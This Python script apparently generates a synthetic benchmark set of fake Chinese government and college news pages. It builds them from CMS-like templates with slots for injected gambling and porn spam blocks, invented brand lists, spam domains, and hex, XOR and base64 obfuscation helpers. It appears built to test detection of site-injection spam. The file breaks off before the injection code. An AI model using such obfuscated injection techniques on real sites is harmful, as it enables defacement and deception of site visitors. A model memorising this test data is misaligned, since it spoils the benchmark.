#!/usr/bin/env python3
"""Generate bench/data/dev/synthetic-v42 (40 pages, ids sv42-001..sv42-040).

Fixed seed; a re-run writes byte-identical files.  Usage:
    python make_set.py [--out DIR]
`build()` returns the pages (also used by validate_v42s.py to re-derive each page's injected block).
"""
import argparse
import json
import os
import random

SEED = 4242
HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.join(os.path.dirname(HERE), "synthetic-v42")

# ---------------------------------------------------------------- invented brands (checked in validate_v42s.py)
ZH_GAMBLE = ["鎏汇国际娱乐", "玄鲸棋牌", "澄曜体育投注", "赤霄娱乐城", "翎羽娱乐会所", "霁泷彩票网",
             "沧溟电竞竞猜", "砚舟真人视讯", "琥岚捕鱼游戏", "曜野棋牌室", "棠梨国际线上", "鹊桥六合资料站",
             "墨鳍体育官网", "青黛娱乐开户", "蔚岚分分彩平台", "朔风炸金花", "檀枫斗牛棋牌", "烛龙真人荷官",
             "霓湾国际", "骁骑体育竞猜", "璟辰电子游艺", "雁荡线上娱乐", "苍珩棋牌下载", "瑾瑜博弈官网", "岑岭娱乐登录",
             "珑玥彩票平台", "琰光视讯娱乐", "铂屿国际官网", "浣溪沙娱乐", "沐曦体育直播下注", "泓渊彩票app", "翡冷翠赌场",
             "磐石快三计划", "玳瑁北京赛车群", "楠溪幸运飞艇", "崆峒电子老虎机", "珀澜娱乐场", "榕城德州扑克"]
ZH_PORN = ["醺梦影院午夜版", "绯岚直播福利", "瑶台成人视频", "夜枭私密直播间", "蔻丹激情影院", "软榻美女秀场"]
ID_SLOT = ["PETIRJAYA4D", "KUDALAUT777", "RAJABADAK88", "SINGAEMAS303", "GARUDAHOKI99", "NAGABIRU5000"]
DOMAINS_ALL = ["qxw7v.vip", "lhm338.top", "zrt55k.cc", "xn9pq.bet", "ydk712.xyz", "wbs96j.top", "hk3fz.vip",
           "cjt88p.cc", "kv5rw.top", "pmz027.vip", "tdq6h.cc", "rlx941.top", "gnu73s.vip", "fzo58c.xyz",
           "vjq204.cc", "bxe61m.top", "sqr8w.vip", "hzy475.xyz", "mcl39d.cc", "ewq52t.top", "nfa816.vip", "oyg4k.cc"]

SURN = "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗郑梁谢宋唐许韩冯邓曹彭曾萧田董袁潘蒋蔡余杜叶程苏魏吕丁任沈姚卢姜崔钟谭陆汪范金石廖贾夏韦付方白邹孟熊秦邱江尹薛闫段雷侯龙史陶黎贺顾毛郝龚邵万钱严覃武戴莫孔向汤"
GIVEN = ["晓东", "海燕", "志强", "丽君", "建华", "文静", "国栋", "雪梅", "振宇", "秀英", "立新", "春燕", "俊杰", "玉兰",
         "明轩", "慧敏", "永红", "思远", "晨曦", "家豪", "婉婷", "德胜", "佳怡", "子涵", "宏伟", "艳萍", "宇航", "淑芬"]


def person(r):
    return r.choice(SURN) + r.choice(GIVEN)


# ---------------------------------------------------------------- articles
def art_gov(r, place, kind, y, mo, da):
    """Return (title, paragraphs, dept) for an invented gov/edu place; `kind` picks the topic."""
    n = lambda a, b: r.randint(a, b)  # noqa: E731
    m, d = mo, max(1, da - r.randint(0, 2))
    T = {
        "farm": (f"{place}抓好春耕备耕确保粮食播种面积稳定",
                 [f"{m}月{d}日,记者从{place}农业农村局获悉,全县今年计划播种粮食作物{n(20, 60)}.{n(1, 9)}万亩,目前已储备种子{n(300, 900)}吨、化肥{n(1, 5)}.{n(1, 9)}万吨。",
                  f"为保障春耕生产,{place}组织{n(40, 90)}名农技人员分片包村,深入田间地头开展技术指导,重点推广水稻机插秧、玉米大豆带状复合种植等技术。",
                  f"同时,{place}农业农村局联合市场监管部门开展农资打假专项行动,共检查农资经营门店{n(60, 200)}家,抽检种子、农药样品{n(20, 80)}批次。"], "农业农村局"),
        "flood": (f"{place}开展汛前水利设施安全大检查",
                  [f"{m}月{d}日至{d + 1}日,{place}水利局组成{n(3, 8)}个检查组,对辖区{n(10, 60)}座小型水库、{n(100, 500)}处山塘和重点河段堤防开展汛前安全检查。",
                   f"检查组逐一查看了大坝坝体、溢洪道、放水设施及雨水情测报设备运行情况,查阅值班记录和防汛预案,现场交办问题隐患{n(10, 50)}处。",
                   f"{place}水利局要求,各责任单位要在主汛期到来前完成隐患整改,落实巡查、预警、转移等各项措施,确保安全度汛。"], "水利局"),
        "elder": (f"{place}新建{n(5, 15)}个社区老年食堂助力居家养老",
                  [f"今年以来,{place}民政局把老年助餐服务列入民生实事项目,新建社区老年食堂和助餐点{n(5, 15)}个,累计服务老年人{n(1, 9)}万余人次。",
                   f"各老年食堂按照“政府补一点、企业让一点、个人出一点”的方式运营,{n(70, 80)}周岁以上老人每餐可享受{n(2, 5)}元补贴。",
                   f"{place}民政局有关负责人表示,下一步将推动助餐服务向农村地区延伸,探索“中心食堂+配送”模式,让更多老年人吃得上、吃得好。"], "民政局"),
        "jobs": (f"{place}举办春季招聘月活动提供岗位{n(2000, 6000)}个",
                 [f"{m}月{d}日,{place}{y}年春季招聘月现场招聘会在县人力资源市场举行,{n(80, 160)}家企业进场招聘。",
                  f"招聘会涵盖装备制造、电子信息、现代物流、医疗护理等行业,现场还设置了政策咨询、技能培训报名和创业指导服务台。",
                  f"据统计,当天入场求职人员{n(2000, 5000)}余人次,初步达成就业意向{n(500, 1500)}人。{place}人力资源和社会保障局表示,招聘月期间还将举办{n(5, 12)}场专场招聘。"], "人力资源和社会保障局"),
        "river": (f"{place}全面推进河湖长制落实见效",
                  [f"{place}现有县级河长{n(10, 30)}名、乡级河长{n(60, 150)}名、村级河长{n(200, 500)}名,实现河湖管护责任全覆盖。",
                   f"今年一季度,各级河长累计巡河{n(3000, 9000)}人次,发现并整改河道垃圾、违规堆放等问题{n(100, 300)}个。",
                   f"{place}水利局相关负责人介绍,全县将继续开展“清四乱”常态化规范化行动,持续改善河湖生态环境。"], "水利局"),
        "forest": (f"{place}部署森林防灭火重点时段工作",
                   [f"{m}月{d}日,{place}召开森林防灭火工作会议,分析当前火险形势,部署清明、五一等重点时段防控任务。",
                    f"会议要求,各乡镇要严格落实野外用火管控,加强进山入林人员登记检查,对重点林区实行网格化巡护。",
                    f"据了解,{place}今年已新建生物防火林带{n(10, 40)}公里,组建专业扑火队伍{n(5, 20)}支、队员{n(100, 400)}名。"], "应急管理局"),
        "medical": (f"{place}推进紧密型县域医共体建设",
                    [f"{place}以县人民医院为牵头单位,联合{n(10, 25)}家乡镇卫生院组建紧密型县域医共体,实行人员、财务、药品统一管理。",
                     f"医共体建立了远程影像、远程心电和检验中心,基层检查、县级诊断,今年以来共完成远程会诊{n(2000, 8000)}例。",
                     f"{place}卫生健康局表示,将继续推动优质医疗资源下沉,力争县域内就诊率稳定在{n(88, 94)}%以上。"], "卫生健康局"),
        "road": (f"{place}农村公路提质改造工程全面开工",
                 [f"{m}月{d}日,{place}{y}年农村公路提质改造工程集中开工,计划改造农村公路{n(50, 150)}公里、危桥{n(5, 20)}座。",
                  f"工程总投资{n(1, 4)}.{n(1, 9)}亿元,重点实施窄路面拓宽、安全生命防护和路域环境整治。",
                  f"{place}交通运输局要求施工单位严格落实质量安全责任,合理安排工期,确保年底前全面完工。"], "交通运输局"),
        "campus_safety": (f"{place}开展新学期校园安全专项检查",
                          [f"开学前夕,{place}教育局联合公安、消防、市场监管等部门,对全县{n(40, 120)}所中小学校和幼儿园开展安全专项检查。",
                           f"检查组重点查看了校舍安全、消防设施、食堂食品安全和校车运营情况,现场整改问题{n(20, 80)}个。",
                           f"{place}教育局要求各学校健全安全管理制度,开好安全教育第一课,确保师生平安开学。"], "教育局"),
        "teacher": (f"{place}组织中小学教师暑期集中培训",
                    [f"{m}月{d}日,{place}{y}年中小学教师暑期集中培训开班,全县{n(800, 2500)}名教师分学段参加培训。",
                     f"培训围绕新课标解读、大单元教学设计和作业设计等内容,邀请省内外专家和一线名师授课。",
                     f"{place}教育局将把培训情况纳入教师继续教育学分管理,推动培训成果转化为课堂教学实效。"], "教育局"),
        # edu (college) topics
        "enroll": (f"{place}召开{y}年招生工作会议",
                   [f"{m}月{d}日下午,{place}在行政楼会议室召开年度招生工作会议,校领导、各二级学院院长和招生专员参加会议。",
                    f"会议通报了上一年度招生完成情况,全校共录取新生{n(3000, 6000)}人,报到率达{n(93, 98)}.{n(1, 9)}%。",
                    f"会议要求,各二级学院要加强专业宣传,深化校企合作,进一步提升生源质量。"], "招生就业处"),
        "skills": (f"{place}学子在省职业院校技能大赛中获佳绩",
                   [f"近日,{place}选派{n(20, 60)}名学生参加全省职业院校技能大赛,共获得一等奖{n(2, 6)}项、二等奖{n(4, 10)}项、三等奖{n(5, 12)}项。",
                    f"参赛项目涵盖工业机器人技术应用、电子商务运营、护理技能和建筑工程识图等赛项。",
                    f"学院教务处负责人表示,将继续推进“岗课赛证”融通,以赛促教、以赛促学。"], "教务处"),
        "library": (f"{place}图书馆开展读书月系列活动",
                    [f"{m}月{d}日,{place}第{n(5, 15)}届读书月活动在图书馆报告厅启动,活动持续一个月。",
                     f"读书月期间,图书馆将举办经典诵读比赛、好书推荐、图书漂流和数字资源培训等活动{n(8, 15)}项。",
                     f"学院党委宣传部表示,希望同学们多读书、读好书,营造浓厚的书香校园氛围。"], "图书馆"),
        "intern": (f"{place}与{n(10, 30)}家企业签订顶岗实习合作协议",
                   [f"{m}月{d}日,{place}校企合作签约仪式举行,学院与{n(10, 30)}家企业签订顶岗实习和订单培养合作协议。",
                    f"根据协议,合作企业将为学生提供实习岗位{n(500, 1500)}个,并选派技术骨干担任兼职教师。",
                    f"学院将与企业共同制定人才培养方案,共建实训基地,提升学生岗位适应能力。"], "校企合作处"),
        "volunteer": (f"{place}青年志愿者走进社区开展志愿服务",
                      [f"{m}月{d}日,{place}团委组织{n(50, 150)}名青年志愿者走进周边社区,开展家电义务维修、健康咨询和环境整治等志愿服务。",
                       f"志愿者们为社区居民维修小家电{n(50, 200)}件,测量血压{n(100, 300)}人次,清理卫生死角{n(10, 40)}处。",
                       f"学院团委负责人表示,将把志愿服务与专业实践相结合,打造常态化志愿服务品牌。"], "团委"),
        "dorm": (f"{place}开展学生宿舍安全卫生检查",
                 [f"为营造安全整洁的住宿环境,{place}学生工作处于{m}月{d}日起组织开展学生宿舍安全卫生检查。",
                  f"检查组共检查宿舍{n(800, 2000)}间,查收违规电器{n(20, 80)}件,评选文明宿舍{n(50, 150)}间。",
                  f"学生工作处要求各二级学院加强日常管理,对检查中发现的问题限期整改。"], "学生工作处"),
        # legit (lottery / gambling regulation)
        "L_welfare": (f"{place}民政局关于{y - 1}年度福利彩票公益金使用情况的公告",
                      [f"根据《彩票管理条例》和《彩票公益金管理办法》有关规定,现将{place}民政局{y - 1}年度福利彩票公益金使用情况公告如下。",
                       f"{y - 1}年度,{place}民政局共收到省、市下达福利彩票公益金{n(300, 900)}万元,主要用于养老服务、儿童福利、残疾人康复和社会救助等项目。",
                       f"其中,支持农村互助幸福院建设{n(100, 300)}万元,资助困境儿童{n(100, 400)}人,开展残疾人康复训练{n(200, 600)}人次。",
                       f"福利彩票公益金使用接受财政、审计部门和社会监督。欢迎社会各界对公益金使用情况提出意见建议。"], "民政局"),
        "L_sportslot": (f"{place}体育局开展体育彩票销售网点规范管理专项检查",
                        [f"{m}月{d}日起,{place}体育局联合体彩管理中心,对全市{n(150, 400)}个体育彩票销售网点开展规范管理专项检查。",
                         f"检查重点包括是否向未成年人销售彩票、是否存在以诋毁同业者等手段进行不正当竞争、是否落实“理性购彩”宣传提示等内容。",
                         f"对检查中发现问题的{n(5, 20)}个网点,已下达整改通知并限期整改;对情节严重的,将依据《彩票管理条例》予以处理。",
                         f"{place}体育局提醒广大购彩者,彩票是公益事业,请理性购彩,不要通过互联网等非法渠道购买彩票。"], "体育局"),
        "L_police": (f"{place}公安局破获一起跨境网络赌博案件",
                     [f"近日,{place}公安局成功破获一起跨境网络赌博案件,抓获犯罪嫌疑人{n(8, 30)}名,冻结涉案资金{n(100, 900)}万余元。",
                      f"经查,犯罪嫌疑人通过社交软件招揽参赌人员,利用境外赌博网站组织网络赌博,并为赌博平台提供资金结算服务。",
                      f"目前,案件正在进一步侦办中。{place}公安局提醒广大群众,网络赌博是违法犯罪行为,切勿参与,发现相关线索请及时向公安机关举报。"], "公安局"),
        "L_campus": (f"{place}开展“远离网络赌博”主题教育活动",
                     [f"为增强学生防范意识,{m}月{d}日,{place}邀请属地派出所民警走进校园,开展“远离网络赌博、防范电信诈骗”主题教育活动。",
                      f"民警结合真实案例,讲解了网络赌博“先让你赢、再让你输”的套路,以及为赌博平台出租出借银行卡须承担的法律责任。",
                      f"活动现场发放宣传手册{n(1000, 3000)}份,{n(500, 1500)}余名学生参加。学生处表示,将把防赌反诈教育纳入新生入学教育内容。"], "学生工作处"),
    }
    return T[kind]


GOV_TOPICS = ["farm", "flood", "elder", "jobs", "river", "forest", "medical", "road", "campus_safety", "teacher"]
EDU_TOPICS = ["enroll", "skills", "library", "intern", "volunteer", "dorm"]

# ---------------------------------------------------------------- templates
# Each template: fn(page) -> html str.  page keys: title, paras, date, time, source, author, site_name, host, url,
# inj (dict of slot -> html), head_title, meta_kw, meta_desc, views_id
CSS_COMMON = "body{margin:0;font-family:'Microsoft YaHei',SimSun,sans-serif;color:#333}a{color:#333;text-decoration:none}"


def _paras(p, tag="p", attr=""):
    return "\n".join(f"<{tag}{attr}>{x}</{tag}>" for x in p["paras"])


def t1_easysite(p):
    """T1: EasySite-like county portal (Huawei EasySite station-group style), utf-8."""
    i = p["inj"]
    by = (f'<span>发布时间：{p["date"]} {p["time"]}</span><span>信息来源：{p["source"]}</span>'
          + (f'<span>作者：{p["author"]}</span>' if p["author"] else "")
          + '<span>【字体：<a href="javascript:doZoom(18)">大</a> <a href="javascript:doZoom(16)">中</a> <a href="javascript:doZoom(14)">小</a>】</span>'
          + f'<span>浏览次数：<em id="es_hits_{p["views_id"]}">0</em></span>')
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<meta name="SiteName" content="{p["site_name"]}">
<meta name="SiteDomain" content="{p["host"]}">
<meta name="ColumnName" content="部门动态">
<meta name="ContentSource" content="{p["source"]}">
<meta name="PubDate" content="{p["date"]} {p["time"]}">
<link rel="stylesheet" href="/eportal/uiFramework/css/es-base.css">
<style>{CSS_COMMON}.es-top{{background:#a8161b;height:110px}}.es-nav li{{display:inline-block;padding:0 18px}}.es-art h1{{font-size:24px;text-align:center}}.es-info span{{margin:0 8px;color:#777;font-size:13px}}</style>
{i.get("head_script", "")}</head>
<body>
{i.get("body_top", "")}<div class="es-top"><div class="es-logo"><img src="/eportal/fileDir/{p["host"].split(".")[1]}/resource/cms/logo.png" alt="{p["site_name"]}"></div>
<div class="es-search"><form action="/eportal/ui?pageId=searchResult" method="get"><input name="searchWord" placeholder="请输入关键字"><button>搜索</button></form></div></div>
<div class="es-nav"><ul><li><a href="/">首页</a></li><li><a href="/col/zwdt/">政务动态</a></li><li><a href="/col/xxgk/">信息公开</a></li><li><a href="/col/zwfw/">政务服务</a></li><li><a href="/col/hdjl/">互动交流</a></li><li><a href="/col/zjxq/">走进{p["place"]}</a></li></ul></div>
{i.get("after_nav", "")}<div class="es-main">
<div class="es-crumb">当前位置：<a href="/">首页</a> &gt; <a href="/col/zwdt/">政务动态</a> &gt; <a href="/col/zwdt/bmdt/">部门动态</a></div>
<div class="es-art">
<h1 class="es-title">{p["title"]}</h1>
<div class="es-info">{by}</div>
<div class="es-content" id="easysiteText">
{i.get("content_top", "")}{_paras(p, attr=' style="text-indent:2em"')}
{i.get("content_end", "")}</div>
<div class="es-tools"><a href="javascript:window.print()">【打印本页】</a> <a href="javascript:window.close()">【关闭窗口】</a></div>
</div>
</div>
<div class="es-foot">
<div class="es-links">相关链接：<a href="http://www.gov.cn/">中国政府网</a> <a href="/">省人民政府</a> <a href="/">市人民政府</a>{i.get("friend_links", "")}</div>
<p>主办单位：{p["site_name"]}办公室　　承办：{p["place"]}大数据中心</p>
<p>网站标识码：{p["site_code"]}　　{p["icp"]}　　{p["gongan"]}</p>
{i.get("footer", "")}</div>
<script src="/eportal/uiFramework/js/es-counter.js"></script>
<script>esCounter("es_hits_{p["views_id"]}", "{p["views_id"]}");</script>
{i.get("body_end", "")}</body>
</html>
"""


def t2_jyh(p):
    """T2: 金宇恒-like township portal (.aspx table layout, 信息公开 metadata table), GB18030."""
    i = p["inj"]
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030" />
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<meta name="keywords" content="{p["meta_kw"]}" />
<meta name="description" content="{p["meta_desc"]}" />
<link href="/Template/Default/css/jyh_main.css" rel="stylesheet" type="text/css" />
<style type="text/css">{CSS_COMMON}.jyh_tb td{{border:1px solid #cfd8e3;padding:4px 8px;font-size:12px}}.jyh_con{{font-size:16px;line-height:30px}}</style>
{i.get("head_script", "")}</head>
<body>
{i.get("body_top", "")}<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0" class="jyh_head">
<tr><td height="120" background="/Template/Default/images/banner.jpg"><span class="jyh_sitename">{p["site_name"]}</span></td></tr>
<tr><td class="jyh_menu"><a href="/Index.aspx">网站首页</a> | <a href="/List.aspx?ClassID=12">乡镇概况</a> | <a href="/List.aspx?ClassID=15">工作动态</a> | <a href="/Xxgk/Index.aspx">政务公开</a> | <a href="/List.aspx?ClassID=21">便民服务</a> | <a href="/Mail/Index.aspx">书记信箱</a></td></tr>
</table>
{i.get("after_nav", "")}<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0">
<tr><td class="jyh_pos">您现在的位置：<a href="/Index.aspx">首页</a> &raquo; <a href="/List.aspx?ClassID=15">工作动态</a> &raquo; 正文</td></tr>
<tr><td>
<table width="100%" class="jyh_tb" cellspacing="0">
<tr><td width="12%">索 引 号：</td><td width="38%">{p["index_no"]}</td><td width="12%">发布机构：</td><td>{p["source"]}</td></tr>
<tr><td>生成日期：</td><td>{p["date"]}</td><td>所属主题：</td><td>工作动态</td></tr>
<tr><td>文　　号：</td><td>无</td><td>有 效 性：</td><td>有效</td></tr>
</table>
</td></tr>
<tr><td align="center" class="jyh_title"><h2 id="ArticleTitle">{p["title"]}</h2></td></tr>
<tr><td align="center" class="jyh_info">来源：{p["source"]}&nbsp;&nbsp;{("撰稿：" + p["author"] + "&nbsp;&nbsp;") if p["author"] else ""}发布时间：{p["date"]}&nbsp;&nbsp;浏览量：<span id="lblHits">--</span></td></tr>
<tr><td class="jyh_con" id="ArticleContent">
{i.get("content_top", "")}{_paras(p, attr=' align="left"')}
{i.get("content_end", "")}</td></tr>
<tr><td align="right"><a href="javascript:window.print();">打印</a> <a href="javascript:window.close();">关闭</a></td></tr>
</table>
<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0" class="jyh_foot">
<tr><td align="center">{i.get("friend_links", "")}版权所有：{p["site_name"]}　地址：{p["place"]}人民路{p["addr_no"]}号<br />{p["icp"]}　技术支持：{i.get("credit", "金宇恒科技")}</td></tr>
</table>
<script type="text/javascript" src="/Js/Hits.aspx?ID={p["views_id"]}"></script>
{i.get("body_end", "")}</body>
</html>
"""


def t3_yii(p):
    """T3: Yii2-built college news page (csrf meta, bootstrap-3 grid), GBK."""
    i = p["inj"]
    d = p["date"].split("-")
    cn_date = f"{d[0]}年{d[1]}月{d[2]}日"
    parts = []
    if p["author"]:
        parts.append(f"作者：{p['author']}")
    parts.append(f"来源：{p['source']}")
    parts.append(f"日期：{cn_date}")
    parts.append(f'点击：<span class="hit-count" data-id="{p["views_id"]}"></span>')
    by = "　　".join(parts)
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="GBK">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="csrf-param" content="_csrf-frontend">
<meta name="csrf-token" content="{p["csrf"]}">
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<link href="/assets/4f1c2a9e/css/bootstrap.css" rel="stylesheet">
<link href="/css/site.css?v={p["views_id"] % 97}" rel="stylesheet">
{i.get("head_script", "")}</head>
<body>
{i.get("body_top", "")}<div class="wrap">
<nav id="w0" class="navbar-inverse navbar-fixed-top navbar"><div class="container"><div class="navbar-header"><a class="navbar-brand" href="/">{p["site_name"]}</a></div>
<div id="w0-collapse" class="collapse navbar-collapse"><ul id="w1" class="navbar-nav navbar-right nav"><li><a href="/">首页</a></li><li class="active"><a href="/news/index">学院新闻</a></li><li><a href="/notice/index">通知公告</a></li><li><a href="/dept/index">院系设置</a></li><li><a href="/zs/index">招生就业</a></li></ul></div></div></nav>
{i.get("after_nav", "")}<div class="container">
<ul class="breadcrumb"><li><a href="/">首页</a></li>
<li><a href="/news/index">学院新闻</a></li>
<li class="active">正文</li>
</ul>
<div class="site-article row">
<div class="col-md-9">
<h3 class="article-title text-center">{p["title"]}</h3>
<p class="article-meta text-center text-muted">{by}</p>
<div class="article-body">
{i.get("content_top", "")}{_paras(p)}
{i.get("content_end", "")}</div>
<p class="text-right">（编辑：{p["editor"]}）</p>
</div>
<div class="col-md-3"><div class="panel panel-default"><div class="panel-heading">快速通道</div><div class="list-group"><a class="list-group-item" href="/xxgk/index">信息公开</a><a class="list-group-item" href="/lib/index">图书馆</a><a class="list-group-item" href="/mail/index">院长信箱</a></div></div></div>
</div>
</div>
</div>
<footer class="footer"><div class="container"><p class="pull-left">&copy; {p["site_name"]} 地址：{p["place_addr"]}</p><p class="pull-right">{p["icp"]}{i.get("credit", "")}</p>{i.get("friend_links", "")}</div></footer>
<script src="/assets/9b3d0e11/jquery.js"></script>
<script src="/assets/4f1c2a9e/js/bootstrap.js"></script>
{i.get("body_end", "")}</body>
</html>
"""


def t4_quasar(p):
    """T4: Quasar (Vue) SSR export of a bureau news page, utf-8."""
    i = p["inj"]
    chips = [f'<div class="q-chip row inline no-wrap items-center"><div class="q-chip__content">{p["date"]}</div></div>',
             f'<div class="q-chip row inline no-wrap items-center"><div class="q-chip__content">来源：{p["source"]}</div></div>']
    if p["author"]:
        chips.append(f'<div class="q-chip row inline no-wrap items-center"><div class="q-chip__content">作者：{p["author"]}</div></div>')
    chips.append('<div class="q-chip row inline no-wrap items-center"><div class="q-chip__content">阅读 <span data-v-7a1c9e2b class="pv">0</span></div></div>')
    body = "\n".join(f'<p data-v-7a1c9e2b class="text-body1">{x}</p>' for x in p["paras"])
    return f"""<!DOCTYPE html>
<html lang="zh-CN" data-server-rendered="true">
<head>
<meta charset="utf-8">
<meta name="format-detection" content="telephone=no">
<meta name="viewport" content="user-scalable=no,initial-scale=1,maximum-scale=1,minimum-scale=1,width=device-width">
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<link rel="icon" type="image/png" href="/icons/favicon-32x32.png">
<link rel="stylesheet" href="/css/app.{p["hash"]}.css">
{i.get("head_script", "")}</head>
<body class="desktop no-touch body--light">
{i.get("body_top", "")}<div id="q-app"><div class="q-layout q-layout--standard" tabindex="-1">
<header class="q-header q-layout__section--marginal fixed-top bg-primary text-white"><div class="q-toolbar row no-wrap items-center"><div class="q-toolbar__title ellipsis">{p["site_name"]}</div>
<div class="q-tabs row no-wrap items-center"><a class="q-tab" href="/">首页</a><a class="q-tab q-tab--active" href="/news">工作动态</a><a class="q-tab" href="/open">政府信息公开</a><a class="q-tab" href="/service">办事服务</a></div></div></header>
{i.get("after_nav", "")}<div class="q-page-container"><main class="q-page q-layout-padding">
<div class="q-breadcrumbs"><a href="/">首页</a> / <a href="/news">工作动态</a> / 详情</div>
<div data-v-7a1c9e2b class="q-card q-card--bordered article-card">
<div data-v-7a1c9e2b class="q-card__section"><div data-v-7a1c9e2b class="text-h5 text-weight-bold text-center">{p["title"]}</div>
<div data-v-7a1c9e2b class="row justify-center q-gutter-sm meta">{"".join(chips)}</div></div>
<div data-v-7a1c9e2b class="q-separator q-separator--horizontal"></div>
<div data-v-7a1c9e2b class="q-card__section article-content">
{i.get("content_top", "")}{body}
{i.get("content_end", "")}</div></div>
</main></div>
<footer class="q-footer bg-grey-9 text-grey-4"><div class="q-pa-md text-center text-caption">主办：{p["site_name"]}　{p["icp"]}　{p["gongan"]}{i.get("friend_links", "")}</div></footer>
</div></div>
<script src="/js/vendor.{p["hash"][::-1]}.js" defer></script><script src="/js/app.{p["hash"]}.js" defer></script>
{i.get("body_end", "")}</body>
</html>
"""


def t5_semantic(p):
    """T5: Semantic-UI bureau site (ui container / segment / horizontal list byline), utf-8."""
    i = p["inj"]
    items = [f'<div class="item"><i class="calendar icon"></i>发布日期：{p["date"]}</div>',
             f'<div class="item"><i class="building icon"></i>来源：{p["source"]}</div>']
    if p["author"]:
        items.append(f'<div class="item"><i class="user icon"></i>文／{p["author"]}</div>')
    items.append('<div class="item"><i class="eye icon"></i><span class="sui-pv">--</span></div>')
    return f"""<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<link rel="stylesheet" href="/static/semantic/semantic.min.css">
{i.get("head_script", "")}</head>
<body>
{i.get("body_top", "")}<div class="ui inverted vertical masthead segment"><div class="ui container"><div class="ui large secondary inverted pointing menu">
<a class="item" href="/">首页</a><a class="active item" href="/news/">新闻动态</a><a class="item" href="/gk/">政务公开</a><a class="item" href="/bs/">办事指南</a><a class="right item" href="/en/">English</a></div>
<h2 class="ui inverted header">{p["site_name"]}</h2></div></div>
{i.get("after_nav", "")}<div class="ui main text container">
<div class="ui breadcrumb"><a class="section" href="/">首页</a><i class="right angle icon divider"></i><a class="section" href="/news/">新闻动态</a><i class="right angle icon divider"></i><div class="active section">正文</div></div>
<div class="ui segment article">
<h1 class="ui header">{p["title"]}</h1>
<div class="ui horizontal small list">{"".join(items)}</div>
<div class="ui divider"></div>
<div class="article-text">
{i.get("content_top", "")}{_paras(p)}
{i.get("content_end", "")}</div>
</div>
</div>
<div class="ui inverted vertical footer segment"><div class="ui center aligned container"><div class="ui inverted section divider"></div>
<div class="ui horizontal inverted small divided link list"><a class="item" href="/about/">关于本网</a><a class="item" href="/map/">网站地图</a><a class="item" href="/contact/">联系我们</a>{i.get("friend_links", "")}</div>
<p>{p["site_name"]} 版权所有　{p["icp"]}</p>{i.get("credit", "")}</div></div>
<script src="/static/jquery-3.6.0.min.js"></script><script src="/static/semantic/semantic.min.js"></script>
{i.get("body_end", "")}</body>
</html>
"""


def t6_mojo(p):
    """T6: mojoPortal-like ASP.NET WebForms page (__VIEWSTATE, ctl00_ ids, bracketed byline), GBK."""
    i = p["inj"]
    d = p["date"].split("-")
    parts = [f"【发布单位：{p['source']}】", f"【发布日期：{int(d[0])}/{int(d[1])}/{int(d[2])}】"]
    if p["author"]:
        parts.append(f"【作者：{p['author']}】")
    parts.append('【阅读次数：<span id="ctl00_mainContent_ctl00_lblViews">0</span>】')
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head id="ctl00_Head1">
<meta http-equiv="Content-Type" content="text/html; charset=gbk" />
{i.get("head_meta", "")}<title>{p["head_title"]}</title>
<link rel="stylesheet" type="text/css" href="/Data/style/skins/gov-blue/style.css" />
{i.get("head_script", "")}</head>
<body class="pagebody">
{i.get("body_top", "")}<form method="post" action="./ViewPost.aspx?pageid={p["views_id"] % 50}&amp;mid={p["views_id"] % 900}&amp;ItemID={p["views_id"]}" id="aspnetForm">
<div class="aspNetHidden"><input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="{p["viewstate"]}" /></div>
<div id="wrapwebsite"><div class="sitelogo"><a href="/" class="siteheading">{p["site_name"]}</a></div>
<div id="topnav"><ul class="AspNet-Menu"><li><a href="/">首页</a></li><li><a href="/zxdt.aspx">中心动态</a></li><li><a href="/tzgg.aspx">通知公告</a></li><li><a href="/zcfg.aspx">政策法规</a></li><li><a href="/lxwm.aspx">联系我们</a></li></ul></div>
{i.get("after_nav", "")}<div id="wrapcenter"><div class="breadcrumbs"><a href="/">首页</a> &gt; <a href="/zxdt.aspx">中心动态</a></div>
<div class="modulecontent"><div class="blogitem">
<h2 class="blogtitle"><span id="ctl00_mainContent_ctl00_lblTitle">{p["title"]}</span></h2>
<div class="blogdate">{"".join(parts)}</div>
<div class="blogtext" id="ctl00_mainContent_ctl00_divBody">
{i.get("content_top", "")}{_paras(p)}
{i.get("content_end", "")}</div>
</div></div></div>
<div id="wrapfooter">{i.get("friend_links", "")}<p>Copyright &copy; {p["site_name"]}　{p["icp"]}</p>{i.get("credit", "")}</div>
</div>
<div class="aspNetHidden"><input type="hidden" name="__EVENTVALIDATION" id="__EVENTVALIDATION" value="{p["viewstate"][:40]}" /></div>
</form>
{i.get("body_end", "")}</body>
</html>
"""


TEMPLATES = {"T1": (t1_easysite, "utf-8"), "T2": (t2_jyh, "gb18030"), "T3": (t3_yii, "gbk"),
             "T4": (t4_quasar, "utf-8"), "T5": (t5_semantic, "utf-8"), "T6": (t6_mojo, "gbk")}

# ---------------------------------------------------------------- injections
def jsesc_hex(s):
    return "".join("\\x%02x" % ord(c) if ord(c) < 128 else "\\u%04x" % ord(c) for c in s)


def xor_codes(s, k):
    return ",".join(str(ord(c) ^ k) for c in s)


def b64(s):
    import base64
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def make_injection(form, r, brands, dom, page_title):
